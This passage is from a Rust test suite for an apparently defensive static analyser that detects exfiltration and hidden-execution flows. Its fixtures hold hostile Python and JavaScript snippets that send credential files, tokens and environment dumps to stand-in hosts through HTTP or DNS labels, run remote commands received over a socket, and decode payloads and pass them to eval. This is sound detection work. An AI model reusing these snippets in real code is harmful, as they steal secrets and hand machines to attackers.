    let local = "import os, urllib.request\nkey = os.environ.get('SERVER_API_KEY')\nreq = urllib.request.Request(f'http://127.0.0.1:{port}/v1/models', headers={'Authorization': f'Bearer {key}'})\n";
    assert!(py(local).is_empty(), "{:?}", py(local));
    let public = local.replace("127.0.0.1", "203.0.113.7");
    assert_eq!(py(&public).len(), 1, "{:?}", py(&public));
    assert!(!engine::is_exfil_destination(
        "http://10.1.2.3/x http://192.168.0.9"
    ));
    assert!(engine::is_exfil_destination("https://webhook.site/abc"));
}

#[test]
fn resolving_the_machines_own_name_is_not_a_beacon() {
    // A cluster library finds its own address; nothing is joined to the name.
    let own = "import os, socket\ninfo = socket.getaddrinfo(socket.gethostname(), 0)\nhost = os.getenv('HOSTNAME')\nip = socket.gethostbyname(host)\n";
    assert!(py(own).is_empty(), "{:?}", py(own));
    let beacon =
        "import socket\nsocket.gethostbyname(socket.gethostname() + '.x.example.invalid')\n";
    assert_eq!(py(beacon).len(), 1, "{:?}", py(beacon));
    let built = "import socket\nname = f'{socket.gethostname()}.x.example.invalid'\nsocket.gethostbyname(name)\n";
    assert_eq!(py(built).len(), 1, "{:?}", py(built));
}

#[test]
fn resolving_the_machines_own_name_through_a_wrapper_is_not_a_beacon() {
    // A config library asks its resolver helper for the local host's canonical name.
    let helper = concat!(
        "import socket\n",
        "def _lookup(name, family):\n",
        "    return socket.getaddrinfo(name, None, family, 0, 0, socket.AI_CANONNAME)\n",
        "def local_fqdn():\n",
        "    return _lookup(socket.gethostname(), socket.AF_INET)\n",
    );
    assert!(py(helper).is_empty(), "{:?}", py(helper));
    // The same helper handed a name built for someone's domain carries the host name out.
    let beacon = helper.replace(
        "_lookup(socket.gethostname(), socket.AF_INET)",
        "_lookup(socket.gethostname() + '.t.example.invalid', socket.AF_INET)",
    );
    assert_eq!(py(&beacon).len(), 1, "{:?}", py(&beacon));
}

#[test]
fn host_identity_on_a_network_clients_command_line_is_sent() {
    // A helper runs nslookup with the label its caller built from the user and host names.
    let text = concat!(
        "import os, getpass, socket\n",
        "def _send(label):\n",
        "    os.system('nslookup ' + label + '.t.example.invalid')\n",
        "_send(getpass.getuser() + '.' + socket.gethostname())\n",
    );
    let found = py(text);
    assert!(
        found.iter().any(|f| f.0 == FlowKind::HostInfoToNetwork),
        "{found:?}"
    );
    let argv = "import subprocess, platform\nsubprocess.run(['ping', '-c', '1', platform.node() + '.t.example.invalid'])\n";
    assert!(py(argv).iter().any(|f| f.0 == FlowKind::HostInfoToNetwork));
    let node = "const os = require('os');\nconst cp = require('child_process');\ncp.exec(`dig ${os.hostname()}.t.example.invalid`);\n";
    assert!(js(node).iter().any(|f| f.0 == FlowKind::HostInfoToNetwork));
}

#[test]
fn host_identity_handed_to_a_local_program_is_not_a_send() {
    // The same data on the command line of a program that does not go over the network, or a
    // client whose program is computed, is not read as a send.
    let text = concat!(
        "import os, getpass, subprocess\n",
        "os.system('echo ' + getpass.getuser() + ' >> build.log')\n",
        "subprocess.run(['chown', getpass.getuser(), 'out'])\n",
        "subprocess.run([tool, getpass.getuser()])\n",
    );
    assert!(
        py(text).iter().all(|f| f.0 != FlowKind::HostInfoToNetwork),
        "{:?}",
        py(text)
    );
}

#[test]
fn host_identity_spelled_in_hex_digits_still_reaches_a_ping() {
    // Each character's code in hex, labelled under a zone and handed to ping through the shell.
    let text = concat!(
        "import os, base64\n",
        "data = base64.b32encode(os.uname().nodename.encode()).decode()\n",
        "label = ''\n",
        "for c in data[:30]:\n",
        "    label += '%02x' % ord(c)\n",
        "os.system('ping -c 1 %s' % (label + '.z.example.invalid'))\n",
    );
    let found = py(text);
    assert!(
        found.iter().any(|f| f.0 == FlowKind::HostInfoToNetwork),
        "{found:?}"
    );
}

#[test]
fn game_launcher_account_stores_are_credentials_sent_only_to_their_own_service() {
    let sent = |url: &str| {
        py(&format!(
            "import os, requests\np = os.path.join(os.path.expanduser('~'), '.minecraft', 'launcher_accounts.json')\nwith open(p) as f:\n    data = f.read()\nrequests.post('{url}', files={{'a': data}})\n"
        ))
    };
    let found = sent("https://hooks.example.invalid/x");
    assert!(
        found.iter().any(|f| f.0 == FlowKind::CredentialToNetwork),
        "{found:?}"
    );
    // A launcher refreshing its own sign-in sends the token to the account service: its use.
    assert!(sent("https://api.minecraftservices.com/authentication/login_with_xbox").is_empty());
    // A mod manager reading the launcher's profile list reads no credential.
    let profiles = py("import os, requests\np = os.path.join(os.path.expanduser('~'), '.minecraft', 'launcher_profiles.json')\nwith open(p) as f:\n    data = f.read()\nrequests.post('https://mods.example.invalid/sync', data=data)\n");
    assert!(
        !profiles
            .iter()
            .any(|f| f.0 == FlowKind::CredentialToNetwork),
        "{profiles:?}"
    );
}

#[test]
fn a_comprehension_variable_is_not_the_functions_variable_of_that_name() {
    // `key` in the comprehension is the comprehension's own; the parameter `key` sent to a local server
    // is the caller's, and the environment copy is never sent.
    let quiet = py(
        "import os, urllib.request\n\ndef status(port, key):\n    req = urllib.request.Request(\"https://models.example.invalid/v1\", headers={\"Authorization\": key})\n    return urllib.request.urlopen(req)\n\ndef configure(port):\n    env = {key: value for key, value in os.environ.items() if not key.startswith(\"GIT_\")}\n    key = stable_key()\n    status(port, key)\n    return env\n",
    );
    assert!(
        quiet.iter().all(|f| f.0 != FlowKind::EnvironmentToNetwork),
        "{quiet:?}"
    );
    // The comprehension's own variable still carries what it iterates to a send inside it.
    let fire = py(
        "import os, requests\n[requests.post(\"https://collect.example.invalid/e\", data=v) for k, v in os.environ.items()]\n",
    );
    assert!(
        fire.iter().any(|f| f.0 == FlowKind::EnvironmentToNetwork),
        "{fire:?}"
    );
}

#[test]
fn a_download_handed_to_eval_as_a_callback_is_run() {
    let found = js("const u = 'https://cdn.example.invalid/b.js';\nfetch(u).then((r) => r.text()).then(eval).catch(() => {});\n");
    assert!(
        found
            .iter()
            .any(|(k, sink, _, _)| *k == FlowKind::DownloadToExec && sink.contains("then(eval)")),
        "{found:?}"
    );
    let parsed =
        js("fetch('https://cdn.example.invalid/m.json').then((r) => r.text()).then(JSON.parse);\n");
    assert!(parsed.is_empty(), "{parsed:?}");
}

#[test]
fn a_secret_spelled_into_a_dns_name_is_sent() {
    let found = py("import binascii, os, socket\nZONE = 't.example.invalid'\nsecret = os.environ.get('GITHUB_TOKEN') or ''\nhexed = binascii.hexlify(secret.encode()).decode()\nfor i in range(0, len(hexed), 60):\n    socket.gethostbyname('%s.%d.%s' % (hexed[i:i + 60], i, ZONE))\n");
    assert!(
        found
            .iter()
            .any(|(k, sink, _, _)| *k == FlowKind::EnvironmentToNetwork
                && sink.starts_with("socket.gethostbyname")),
        "{found:?}"
    );
    let configured = py("import os, socket\nhost = os.environ.get('NTP_HOST', 'pool.example.invalid')\nsocket.gethostbyname(host)\n");
    assert!(configured.is_empty(), "{configured:?}");
}

#[test]
fn a_credential_file_read_by_a_helper_leaves_in_dns_labels_of_a_loop() {
    // The path reaches the read through the helper's parameter; the chunks reach the lookup through
    // `enumerate` and `%` formatting.
    let text = "import os, socket, binascii\ndef chunks(path, size=30):\n    raw = open(os.path.expanduser(path), 'rb').read()\n    h = binascii.hexlify(raw).decode()\n    return [h[i:i + size] for i in range(0, len(h), size)]\ndef probe():\n    for n, piece in enumerate(chunks('~/.aws/credentials')):\n        socket.getaddrinfo('%s.%d.%s' % (piece, n, 'z.example.invalid'), 53)\nprobe()\n";
    let found = py(text);
    assert!(
        found
            .iter()
            .any(|(k, sink, _, _)| *k == FlowKind::CredentialToNetwork
                && sink.starts_with("socket.getaddrinfo")),
        "{found:?}"
    );
    // A label built with the data first (`f"{piece}.{zone}"`) is the data, not a host the file names.
    let leading = "import socket\nfor n, piece in enumerate(open('/home/u/.aws/credentials').read().split()):\n    socket.gethostbyname(f'{piece}.{n}.z.example.invalid')\n";
    assert!(
        py(leading)
            .iter()
            .any(|(k, _, _, _)| *k == FlowKind::CredentialToNetwork),
        "{:?}",
        py(leading)
    );
    // Resolving the hosts a config names, one by one, sends nothing of the file.
    let config = "import socket\nfor n, host in enumerate(['a.example.invalid', 'b.example.invalid']):\n    socket.getaddrinfo(host, 443)\n";
    assert!(py(config).is_empty(), "{:?}", py(config));
    // A server name read from a credential file and resolved whole is a look-up of that server.
    let kube = "import os, socket, yaml\ncfg = yaml.safe_load(open(os.path.expanduser('~/.kube/config')))\nfor n, c in enumerate(cfg['clusters']):\n    host = c['cluster']['server']\n    socket.getaddrinfo(host, 443)\n";
    assert!(py(kube).is_empty(), "{:?}", py(kube));
}

#[test]
fn output_of_a_command_that_names_the_machine_is_host_identity() {
    let popen = "import os\nfrom urllib import request, parse\nwho = os.popen('whoami').read()\nusers = os.popen('cat /etc/passwd').read()\nbody = parse.urlencode({'u': who, 'p': users}).encode()\nrequest.urlopen(request.Request('https://in.example.invalid/c', data=body))\n";
    let found = py(popen);
    assert!(
        found.iter().any(|f| f.0 == FlowKind::HostInfoToNetwork),
        "{found:?}"
    );
    let argv = "import subprocess, requests\nname = subprocess.check_output(['hostname']).decode()\nrequests.post('https://in.example.invalid/c', json={'n': name})\n";
    assert!(py(argv).iter().any(|f| f.0 == FlowKind::HostInfoToNetwork));
}

#[test]
fn output_of_a_command_that_picks_a_build_is_not_host_identity() {
    // `uname -m` chooses which archive to download; the machine's name is not in it.
    let text = "import os, subprocess, requests\narch = subprocess.check_output(['uname', '-m']).decode().strip()\nkernel = os.popen('uname').read().strip()\nrequests.get(f'https://dl.example.invalid/tool-{kernel}-{arch}.tar.gz')\nrev = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode()\nrequests.post('https://ci.example.invalid/builds', json={'rev': rev})\n";
    let found = py(text);
    assert!(
        found.iter().all(|f| f.0 != FlowKind::HostInfoToNetwork),
        "{found:?}"
    );
}

#[test]
fn a_loop_that_xors_a_constant_with_a_key_decodes_what_compile_runs() {
    let text = "def setup_colours():\n    blob = \"\\x5c\\x58\\x48\\x45\\x46\\x15\\x5c\\x46\\x19\\x48\\x58\\x51\\x4c\\x55\\x59\\x44\\x55\\x1c\\x42\\x4c\\x51\\x49\\x45\\x57\\x53\\x52\\x42\\x4a\\x3e\\x5d\\x52\\x18\\x45\\x5f\\x58\\x4c\"\n    key = \"31415926535897932384626433832795028841971\"\n    out = \"\"\n    for i in range(len(blob)):\n        c = blob[i]\n        k = key[i % len(key)]\n        out += chr(ord(c) ^ ord(k))\n    eval(compile(out, '<string>', 'exec'))\n";
    let found = py(text);
    assert!(
        found.iter().any(|f| f.0 == FlowKind::DecodedToExec),
        "{found:?}"
    );
}

#[test]
fn a_loop_that_xors_runtime_bytes_for_a_checksum_runs_nothing() {
    let text = "def checksum(data, key):\n    out = \"\"\n    for i in range(len(data)):\n        out += chr(ord(data[i]) ^ ord(key[i % len(key)]))\n    return out\n\ndef sign(payload):\n    digest = checksum(payload, 'k')\n    print(digest)\n";
    let found = py(text);
    assert!(found.is_empty(), "{found:?}");
}

#[test]
fn a_live_connection_message_parsed_as_json_and_run_is_remote_control() {
    let kinds = |text: &str| js(text).into_iter().map(|f| f.0).collect::<Vec<_>>();
    let socket_io = concat!(
        "const io = require('socket.io-client');\nconst { exec } = require('child_process');\n",
        "const sock = io('https://relay.example.invalid');\n",
        "sock.on('cmd', (line) => { exec(line, (e, out) => sock.emit('out', out)); });\n",
    );
    assert_eq!(kinds(socket_io), [FlowKind::DownloadToExec]);
    let ws = concat!(
        "const WebSocket = require('ws');\nconst cp = require('child_process');\n",
        "const ws = new WebSocket('wss://relay.example.invalid/c');\n",
        "ws.on('message', (m) => {\n  const msg = JSON.parse(m);\n  if (msg.t === 'sh') cp.exec(msg.c);\n});\n",
    );
    assert_eq!(kinds(ws), [FlowKind::DownloadToExec]);
    // A fetched JSON document's field is data; so is a message only logged, or a request's response.
    assert!(kinds(concat!(
        "const https = require('https');\nconst { execSync } = require('child_process');\n",
        "const req = https.request('https://api.example.invalid/v');\n",
        "req.on('response', (res) => { let b = ''; res.on('data', (c) => (b += c));\n",
        "  res.on('end', () => execSync('npm i tool@' + JSON.parse(b).version)); });\n",
        "const WebSocket = require('ws');\nconst ws = new WebSocket('wss://x.example.invalid');\n",
        "ws.on('message', (m) => console.log(JSON.parse(m).text));\n",
    ))
    .is_empty());
}

#[test]
fn a_lookup_helper_given_the_environment_and_one_name_reads_one_variable() {
    // `get(env, key) => env[key]` with a constant name: one variable, sent to the client's own service.
    let helper = "const get = (source, name) => {\n  return source[name];\n};\nasync function call(url) {\n  const key = process.env ? get(process.env, 'MODELS_API_KEY') : undefined;\n  return fetch(url, { headers: { Authorization: `Bearer ${key}` } });\n}\n";
    assert!(js(helper).is_empty(), "{:?}", js(helper));
    let field = "function token(env) { return env.MODELS_API_KEY; }\nfetch('https://api.example.invalid', { headers: { a: token(process.env) } });\n";
    assert!(js(field).is_empty(), "{:?}", js(field));
    // The same helper handed a name the code does not write could return any variable; returning the
    // object itself, or a secret sent to a webhook, stays a flow.
    let dynamic = "const get = (source, name) => source[name];\nfor (const k of Object.keys(process.env)) {\n  fetch('https://x.example.invalid/c', { method: 'POST', body: get(process.env, k) });\n}\n";
    assert_eq!(js(dynamic).len(), 1, "{:?}", js(dynamic));
    let whole = "const all = (source) => { return source; };\nfetch('https://x.example.invalid/c', { method: 'POST', body: JSON.stringify(all(process.env)) });\n";
    assert_eq!(js(whole).len(), 1, "{:?}", js(whole));
    let webhook = "const get = (source, name) => source[name];\nfetch('https://discord.com/api/webhooks/1/x', { method: 'POST', body: get(process.env, 'GITHUB_TOKEN') });\n";
    assert_eq!(js(webhook).len(), 1, "{:?}", js(webhook));
}

#[test]
fn a_condition_is_not_the_value_it_chooses() {
    let text = "const key = typeof process.env === 'object' && process.env !== null ? process.env.MODELS_API_KEY : undefined;\nfetch('https://api.example.invalid', { headers: { a: key } });\n";
    assert!(js(text).is_empty(), "{:?}", js(text));
    let py_text = "import os, requests\nkey = os.environ.get('MODELS_API_KEY') if os.environ else None\nrequests.get('https://api.example.invalid', headers={'a': key})\n";
    assert!(py(py_text).is_empty(), "{:?}", py(py_text));
    // Either branch is the value.
    let branch = "const body = ready ? JSON.stringify(process.env) : '';\nfetch('https://x.example.invalid/c', { method: 'POST', body });\n";
    assert_eq!(js(branch).len(), 1, "{:?}", js(branch));
}

#[test]
fn a_login_store_the_module_writes_is_its_own() {
    let own = "const { readFile, writeFile } = require('fs/promises');\nconst path = require('path');\nconst os = require('os');\nconst STORE = path.join(os.homedir(), '.deckhand', 'credentials.json');\nasync function save(login) { await writeFile(STORE, JSON.stringify(login)); }\nasync function load() { return JSON.parse(await readFile(STORE, 'utf-8')); }\nasync function check() {\n  const login = await load();\n  return fetch(API + '/v1/session', { headers: { a: login.token } });\n}\n";
    assert!(js(own).is_empty(), "{:?}", js(own));
    // Read only: someone else's store of that name.
    let foreign = own.replace(
        "async function save(login) { await writeFile(STORE, JSON.stringify(login)); }\n",
        "",
    );
    assert_eq!(js(&foreign).len(), 1, "{:?}", js(&foreign));
    // Another tool's store stays a credential even when the module writes it back.
    let aws = own.replace(
        "path.join(os.homedir(), '.deckhand', 'credentials.json')",
        "path.join(os.homedir(), '.aws', 'credentials')",
    );
    assert_eq!(js(&aws).len(), 1, "{:?}", js(&aws));
}

#[test]
fn option_defaults_are_not_a_url_written_in_the_code() {
    // A fetch-and-run helper handed a configured remote whose options carry long constants (folder names).
    let helper = "async function getDoc(url) { const r = await fetch(url); return r.text(); }\nconst defaults = { typesFolder: '@remote-types', cache: 'node_modules/.cache' };\nasync function resolve(options, entry) {\n  const info = { ...defaults, ...options, url: entry };\n  const code = await getDoc(info.url);\n  return new Function(code)();\n}\n";
    assert!(js(helper).is_empty(), "{:?}", js(helper));
    let url = format!("{helper}getDoc('https://cdn.example.invalid/p.js').then((c) => eval(c));\nresolve({{}}, 'https://cdn.example.invalid/manifest.js');\n");
    assert!(!js(&url).is_empty(), "{:?}", js(&url));
    let raw_ip = format!("{helper}resolve({{}}, '203.0.113.7:8080/m.js');\n");
    assert_eq!(js(&raw_ip).len(), 1, "{:?}", js(&raw_ip));
}

#[test]
fn a_bot_wrapper_posting_with_its_own_token_is_not_carrying_it_off() {
    // A progress-bar helper that reports to a chat bot: the caller's bot token is the bot API's own.
    let bot = py("import requests\n\nclass ChatIO:\n    API = 'https://api.telegram.org/bot'\n    def __init__(self, token, chat_id):\n        self.session = requests.Session()\n        self.session.post(self.API + f'{token}/sendMessage', data={'chat_id': chat_id, 'text': 'started'})\n");
    assert!(
        !bot.iter().any(|f| f.0 == FlowKind::EnvironmentToNetwork),
        "{bot:?}"
    );
}

#[test]
fn a_key_the_caller_passes_sent_to_a_collector_is_carried_off() {
    // A wallet helper posts the private key it is given to a mock-API bin.
    let leak = py("import requests\n\ndef sign(private_key):\n    url = 'https://5f0c1a.mockapi.io/keys'\n    requests.post(url, json={'k': private_key})\n    return True\n");
    assert!(
        leak.iter().any(|f| f.0 == FlowKind::EnvironmentToNetwork),
        "{leak:?}"
    );
    // A wallet's private key has no service to go to: posted anywhere, it is carried off.
    let wallet = py("import requests\n\ndef balance(private_key):\n    r = requests.post('https://api.walletsdk.invalid/balance', json=[{'private_key': private_key}])\n    return r.json()\n");
    assert!(
        wallet.iter().any(|f| f.0 == FlowKind::EnvironmentToNetwork),
        "{wallet:?}"
    );
    let tunnel = js("function init(apiKey) {\n  fetch('https://a1b2.ngrok-free.app/k', { method: 'POST', body: apiKey });\n}\n");
    assert!(
        tunnel.iter().any(|f| f.0 == FlowKind::EnvironmentToNetwork),
        "{tunnel:?}"
    );
}

#[test]
fn a_key_the_caller_passes_sent_to_its_own_service_is_quiet() {
    // An SDK sends the caller's key, password and token to its own API: that is what they are for.
    let own = py("import requests\n\ndef login(api_key, password, token):\n    return requests.post('https://api.example.invalid/v1/login', json={'key': api_key, 'pw': password, 't': token})\n");
    assert!(
        own.iter().all(|f| f.0 != FlowKind::EnvironmentToNetwork),
        "{own:?}"
    );
    // A session object is what the request is sent with, not a secret.
    let handle =
        py("def upload(session, data):\n    session.post('http://203.0.113.9/u', data=data)\n");
    assert!(
        handle.iter().all(|f| f.0 != FlowKind::EnvironmentToNetwork),
        "{handle:?}"
    );
}

#[test]
fn an_encoded_field_of_a_fetched_document_decoded_into_exec_is_a_flow() {
    let text = "import base64, requests\ndef check():\n    res = requests.get('https://cfg.example.invalid/v')\n    body = res.json()\n    field = body.get('message', '')\n    code = base64.b64decode(field).decode('utf-8')\n    exec(code)\ncheck()\n";
    let found = py(text);
    assert!(
        found.iter().any(|f| f.0 == FlowKind::DecodedToExec),
        "{found:?}"
    );
    let loads = "import base64, json, urllib.request\nreply = json.loads(urllib.request.urlopen('https://cfg.example.invalid/v').read())\nexec(base64.b64decode(reply['m']))\n";
    assert!(py(loads).iter().any(|f| f.0 == FlowKind::DecodedToExec));
}

#[test]
fn a_fetched_document_used_as_data_is_not_a_flow() {
    // A field of a JSON reply handed to git, and a base64 image field decoded and saved: no code runs.
    let git = "import subprocess, requests\nsha = requests.get('https://api.example.invalid/head').json()['sha']\nsubprocess.run(['git', 'checkout', sha])\n";
    assert!(py(git).is_empty(), "{:?}", py(git));
    let image = "import base64, requests\nr = requests.get('https://api.example.invalid/avatar').json()\nopen('a.png', 'wb').write(base64.b64decode(r['png']))\n";
    assert!(py(image).is_empty(), "{:?}", py(image));
}

#[test]
fn the_machines_own_address_and_a_tls_socket_carry_host_identity() {
    let address = "import socket, platform\ninfo = ('os', platform.release(), 'ip', socket.gethostbyname(socket.gethostname()))\nc = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\nc.connect(('203.0.113.9', 9090))\nc.send(str(f'up {info}').encode())\n";
    assert!(
        py(address)
            .iter()
            .any(|f| f.0 == FlowKind::HostInfoToNetwork),
        "{:?}",
        py(address)
    );
    let tls = "import getpass, socket, ssl\nctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\nplain = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\nsafe = ctx.wrap_socket(plain, server_hostname='x.example.invalid')\nsafe.connect(('x.example.invalid', 443))\nsafe.send(('GET /?u=' + getpass.getuser()).encode())\n";
    assert!(
        py(tls).iter().any(|f| f.0 == FlowKind::HostInfoToNetwork),
        "{:?}",
        py(tls)
    );
}

#[test]
fn a_looked_up_service_address_carries_no_host_identity() {
    let service = "import socket\naddr = socket.gethostbyname('db.example.invalid')\nc = socket.socket()\nc.connect((addr, 5432))\nc.send(b'hello ' + addr.encode())\n";
    assert!(
        !py(service)
            .iter()
            .any(|f| f.0 == FlowKind::HostInfoToNetwork),
        "{:?}",
        py(service)
    );
}

#[test]
fn a_compressed_environment_dump_still_reaches_the_network() {
    let text = "import os, gzip, base64, urllib.request\nenv = '\\n'.join(f'{k}={v}' for k, v in os.environ.items())\npacked = base64.urlsafe_b64encode(gzip.compress(env.encode('utf-8'))).decode()\nurllib.request.urlopen(f'https://t.example.invalid/c?env={packed}', timeout=2)\n";
    assert!(
        py(text)
            .iter()
            .any(|f| f.0 == FlowKind::EnvironmentToNetwork),
        "{:?}",
        py(text)
    );
}

#[test]
fn mcp_client_configs_and_folded_template_paths_are_credentials() {
    let found = py("import os, json, urllib.request\nCLIENTS = ['~/.cursor/mcp.json', '~/Library/Application Support/Claude/claude_desktop_config.json']\ndef gather():\n    out = {}\n    for c in CLIENTS:\n        out[c] = json.load(open(os.path.expanduser(c)))\n    return out\nurllib.request.urlopen('https://x.example.invalid/i', data=json.dumps(gather()).encode())\n");
    assert!(
        found.iter().any(|f| f.0 == FlowKind::CredentialToNetwork),
        "{found:?}"
    );
    let found = js("const os = require('os');\nconst fs = require('fs');\nconst https = require('https');\nconst p = `${os.homedir()}/${'.np' + 'mrc'}`;\nconst data = fs.readFileSync(p, 'utf8');\nconst req = https.request({ host: 'c.example.invalid', method: 'POST' });\nreq.end(data);\n");
    assert!(
        found.iter().any(|f| f.0 == FlowKind::CredentialToNetwork),
        "{found:?}"
    );
    // The same shape naming the tool's own rc file is no credential.
    let own = js("const os = require('os');\nconst fs = require('fs');\nconst https = require('https');\nconst p = `${os.homedir()}/${'.weather' + 'rc'}`;\nconst city = fs.readFileSync(p, 'utf8');\nhttps.get({ host: 'w.example.invalid', path: '/v1?city=' + city });\n");
    assert!(
        own.iter().all(|f| f.0 != FlowKind::CredentialToNetwork),
        "{own:?}"
    );
}

#[test]
fn a_store_that_reads_back_its_own_base64_pickles_is_not_a_hidden_payload() {
    // A keyring kept in a remote document: pickled, base64-encoded and uploaded by `save`, read back by `load`.
    let store = "import base64, codecs, pickle\nclass DocKeyring:\n    def load(self):\n        reply = self.client.request('GET', self.url + '&format=txt')\n        body = reply.read()\n        if body.startswith(codecs.BOM_UTF8):\n            body = body[len(codecs.BOM_UTF8):]\n        return pickle.loads(base64.urlsafe_b64decode(body.decode('string-escape')))\n    def save(self, items):\n        body = base64.urlsafe_b64encode(pickle.dumps(items))\n        self.client.request('PUT', self.url, body)\n";
    let found = py(store);
    assert!(
        found.iter().all(|f| f.0 != FlowKind::DecodedToExec),
        "{found:?}"
    );
    // No writer of that format: a pickle fetched from elsewhere is still run.
    let fetched = "import base64, pickle, requests\ndef load():\n    return pickle.loads(base64.b64decode(requests.get('https://cfg.example.invalid/s').text))\n";
    assert!(py(fetched).iter().any(|f| f.0 == FlowKind::DecodedToExec));
    // A json writer is not a pickle writer.
    let json_writer =
        format!("{fetched}def save(x):\n    return base64.b64encode(json.dumps(x))\n");
    assert!(py(&json_writer)
        .iter()
        .any(|f| f.0 == FlowKind::DecodedToExec));
    // Nor does a writer clear a decoded constant, or a decoded download handed to exec.
    let constant = "import base64, pickle\nstate = pickle.loads(base64.b64decode('gASVEAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOULg=='))\ndef save(x):\n    return base64.b64encode(pickle.dumps(x))\n";
    assert!(py(constant).iter().any(|f| f.0 == FlowKind::DecodedToExec));
    let exec = "import base64, pickle, requests\ndef load():\n    exec(base64.b64decode(requests.get('https://cfg.example.invalid/s').text))\ndef save(x):\n    return base64.b64encode(pickle.dumps(x))\n";
    assert!(py(exec).iter().any(|f| f.0 == FlowKind::DecodedToExec));
}

#[test]
fn a_wrapper_sending_to_a_url_read_from_a_credential_file_goes_to_that_service() {
    // A webhook helper: the address comes from the tool's settings under the agent's folder, the body is
    // the alert. As with a direct request, a host read from the file is the file's own service.
    let helper = "import json, os, urllib.request\ndef _post_json(url, payload):\n    req = urllib.request.Request(url, data=json.dumps(payload).encode())\n    return urllib.request.urlopen(req)\ndef notify(msg):\n    with open(os.path.expanduser('~/.docker/config.json')) as f:\n        prefs = json.load(f)\n    _post_json(prefs['webhook'], {'text': msg})\n";
    assert!(py(helper).is_empty(), "{:?}", py(helper));
    // The same helper given the file as its body, or a fixed host with the secret in the query, sends it.
    let body = helper.replace(
        "_post_json(prefs['webhook'], {'text': msg})",
        "_post_json('https://x.example.invalid/c', prefs)",
    );
    assert_eq!(py(&body).len(), 1, "{:?}", py(&body));
    let query = helper.replace(
        "_post_json(prefs['webhook'], {'text': msg})",
        "_post_json(f\"https://x.example.invalid/c?k={prefs['auths']}\", {})",
    );
    assert_eq!(py(&query).len(), 1, "{:?}", py(&query));
}

#[test]
fn an_agents_model_key_sent_to_its_model_vendor_is_its_own_service() {
    let vendor = "import json, os, urllib.request\nAPI = 'https://api.anthropic.com/v1/messages'\nwith open(os.path.expanduser('~/.openclaw/openclaw.json')) as f:\n    key = json.load(f)['apiKey']\nreq = urllib.request.Request(API, data=b'{}', headers={'x-api-key': key})\nurllib.request.urlopen(req)\n";
    assert!(py(vendor).is_empty(), "{:?}", py(vendor));
    let elsewhere = vendor.replace("api.anthropic.com/v1/messages", "x.example.invalid/k");
    assert_eq!(py(&elsewhere).len(), 1, "{:?}", py(&elsewhere));
}

#[test]
fn a_code_runner_under_a_local_name_is_still_a_sink() {
    let text = "const Make = Function;\nconst build = Make;\nconst body = Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp', 'base64').toString();\nnew build(body)();\n";
    let found = js(text);
    assert!(
        found.iter().any(|f| f.0 == FlowKind::DecodedToExec),
        "{found:?}"
    );
    // A template engine compiling its caller's expression hides nothing.
    let template =
        "const Make = Function;\nmodule.exports = (expr) => new Make('d', 'return ' + expr);\n";
    assert!(js(template).is_empty(), "{:?}", js(template));
}

#[test]
fn a_value_put_in_the_environment_is_read_back_from_it() {
    let text = "import os, urllib.request\nos.environ['SYNC_SRC'] = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\ndef load():\n    with open(os.environ['SYNC_SRC']) as fh:\n        return fh.read()\nurllib.request.urlopen('https://s.example.invalid/u', data=load().encode())\n";
    let found = py(text);
    assert!(
        found.iter().any(|f| f.0 == FlowKind::CredentialToNetwork),
        "{found:?}"
    );
    let js_text = "const fs = require('fs');\nconst os = require('os');\nprocess.env.SYNC_SRC = os.homedir() + '/.npmrc';\nfetch('https://s.example.invalid/u', { method: 'POST', body: fs.readFileSync(process.env.SYNC_SRC, 'utf8') });\n";
    assert!(
        js(js_text)
            .iter()
            .any(|f| f.0 == FlowKind::CredentialToNetwork),
        "{:?}",
        js(js_text)
    );
    // The module's own settings file, put in the environment for a child process, is not a credential.
    let own = "import os, json\nos.environ['APP_CFG'] = os.path.expanduser('~/.config/app/settings.json')\ncfg = json.load(open(os.environ['APP_CFG']))\n";
    assert!(py(own).is_empty(), "{:?}", py(own));
}

/// `count` generated functions of plain arithmetic and string plumbing, about 90 bytes each.
fn filler(count: usize) -> String {
    (0..count)
        .map(|i| {
            format!("function f{i}(a,b){{var c=(a|0)*{i}+b;return [c^{i},String(b)].join(':')}}\n")
        })
        .collect()
}

#[test]
fn large_modules_find_the_flows_of_their_regions_as_a_small_one_does() {
    // Over the region threshold, the passes replay only what is around sends, runs and secret reads,
    // and what those call or are called by: here a wrapper 60 KB away from the read that feeds it,
    // a token read at the top of the module, and a download run through a helper far below.
    let payload_top = "const fs = require('fs');\nconst os = require('os');\nconst https = require('https');\nconst cp = require('child_process');\nconst tok = [process.env.NPM_TOKEN, process.env.GITHUB_TOKEN, process.env.AWS_SECRET_ACCESS_KEY];\n";
    let wrapper = "function ship(body) {\n  const req = https.request({ host: 'x.example.invalid', method: 'POST' });\n  req.write(body);\n}\n";
    let reader = "function collect() {\n  const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n  ship(npmrc);\n}\ncollect();\n";
    let dropper = "fetch('https://z.example.invalid/t', { method: 'POST', body: tok.join(',') });\nfunction runIt(code) {\n  cp.execSync(code);\n}\nhttps.get('https://y.example.invalid/p.sh', (res) => { let s = ''; res.on('data', (d) => { s += d; }); res.on('end', () => runIt(s)); });\n";
    // Decoded code run through a wrapper defined far from its caller (followed out to the caller),
    // and through a decoding helper defined far from the run (followed into the helper).
    let runner = "function runCode(c) {\n  eval(c);\n}\nfunction start() {\n  eval(unpack());\n}\n";
    let caller = "const blob = 'Y29uc29sZS5sb2coJ2hpJyk7Cg==';\nrunCode(atob(blob));\n";
    let helper = "const PACKED = 'Y29uc29sZS5sb2coJ2hpJyk7Cg==';\nfunction unpack() {\n  return atob(PACKED);\n}\nstart();\n";
    let small = format!("{payload_top}{wrapper}{reader}{dropper}{runner}{caller}{helper}");
    let large = format!(
        "{payload_top}{runner}{}{wrapper}{}{reader}{}{caller}{}{dropper}{}{helper}{}",
        filler(450),
        filler(450),
        filler(450),
        filler(450),
        filler(450),
        filler(100)
    );
    assert!(large.len() > regions_min(), "{}", large.len());
    let kinds = |found: Vec<(FlowKind, String, String, Option<String>)>| {
        let mut kinds: Vec<(FlowKind, String)> = found.into_iter().map(|f| (f.0, f.1)).collect();
        kinds.sort();
        kinds
    };
    let expected = kinds(js(&small));
    assert!(
        expected
            .iter()
